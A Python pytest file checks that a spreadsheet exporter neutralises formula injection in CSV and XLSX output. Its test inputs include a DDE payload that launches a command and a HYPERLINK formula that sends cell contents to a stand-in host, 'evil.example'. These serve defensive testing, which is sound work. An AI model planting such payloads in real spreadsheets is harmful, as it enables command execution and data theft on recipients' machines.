"""Spreadsheet files, read back by other programs' readers."""

import csv
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.spreadsheets import Cell, Sheet, csv_bytes, inert, xlsx_bytes

FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Acme")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "\tplain",
    "- a list",
]
PLAIN = ["Acme", "Acme = Globex", "a-b", "3 + 4", "#vpn", "'quoted'", "", "ä ö ü ß 会", "1/2", "Smith, Jones & Co", '"']


def read_csv(data: bytes) -> list[list[str]]:
    """The cells as a reader of CSV gets them."""
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> dict[str, list[list[object]]]:
    """The cells of each sheet."""
    book = load_workbook(BytesIO(data))
    return {page.title: [[cell.value for cell in row] for row in page.iter_rows()] for page in book}


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text: str) -> None:
    assert inert(text) == f"'{text}"
    sheet = Sheet("Effort", ("Customer", "Hours"), [(text, 1.5)])
    ((_, [name, hours])) = read_csv(csv_bytes(sheet))
    assert name.startswith("'")
    assert hours == "1.5"
    book = load_workbook(BytesIO(xlsx_bytes([sheet])))
    cell = book["Effort"]["A2"]
    assert cell.data_type in {"s", "inlineStr"}
    assert str(cell.value).startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text
    sheet = Sheet("Effort", ("Customer",), [(text,)])
    assert read_csv(csv_bytes(sheet)) == [["Customer"], [text]]
    assert read_xlsx(xlsx_bytes([sheet]))["Effort"] == [["Customer"], [text]]


def test_a_text_cannot_begin_a_cell_of_its_own() -> None:
    hostile = '","=1+1'
    assert read_csv(csv_bytes(Sheet("Effort", ("Customer",), [(hostile,), ('a\r\n=1+1,"',)]))) == [
        ["Customer"],
        [hostile],
        ['a\r\n=1+1,"'],
    ]


def test_every_text_stands_in_quotes() -> None:
    data = csv_bytes(Sheet("Effort", ("Customer", "Hours"), [("Acme; =1+1", 2)])).decode("utf-8-sig")
    assert data == '"Customer","Hours"\r\n"Acme; =1+1",2\r\n'


def test_numbers_are_numbers_and_what_is_unknown_is_empty() -> None:
    rows: list[tuple[Cell, ...]] = [("Acme", -1.5, 3, None)]
    sheet = Sheet("Effort", ("Customer", "Change", "Entries", "Cost"), rows)
    assert read_csv(csv_bytes(sheet))[1] == ["Acme", "-1.5", "3", ""]
    assert read_xlsx(xlsx_bytes([sheet]))["Effort"][1] == ["Acme", -1.5, 3, None]


def test_several_sheets_under_names_that_a_workbook_takes() -> None:
    long = "By customer: [all] / 'quoted' and much more than fits"
    sheets = [Sheet("Summary", ("What", "Value"), [("Hours", 3.0)]), Sheet(long, ("Customer",), [])]
    book = read_xlsx(xlsx_bytes(sheets))
    assert list(book) == ["Summary", "By customer   all     quoted  a"]
    assert book["Summary"] == [["What", "Value"], ["Hours", 3]]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=60), min_size=1, max_size=4))
def test_whatever_the_text_no_cell_begins_as_a_formula(texts: list[str]) -> None:
    sheet = Sheet("Effort", tuple("abcd"[: len(texts)]), [tuple(texts)])
    cells = read_csv(csv_bytes(sheet))
    assert len(cells[1]) == len(texts)
    assert not any(cell[:1] in set("=+-@\t\r\n") for cell in cells[1])
    assert [cell.removeprefix("'") for cell in cells[1]] == [text.removeprefix("'") for text in texts]
    assert xlsx_bytes([sheet])
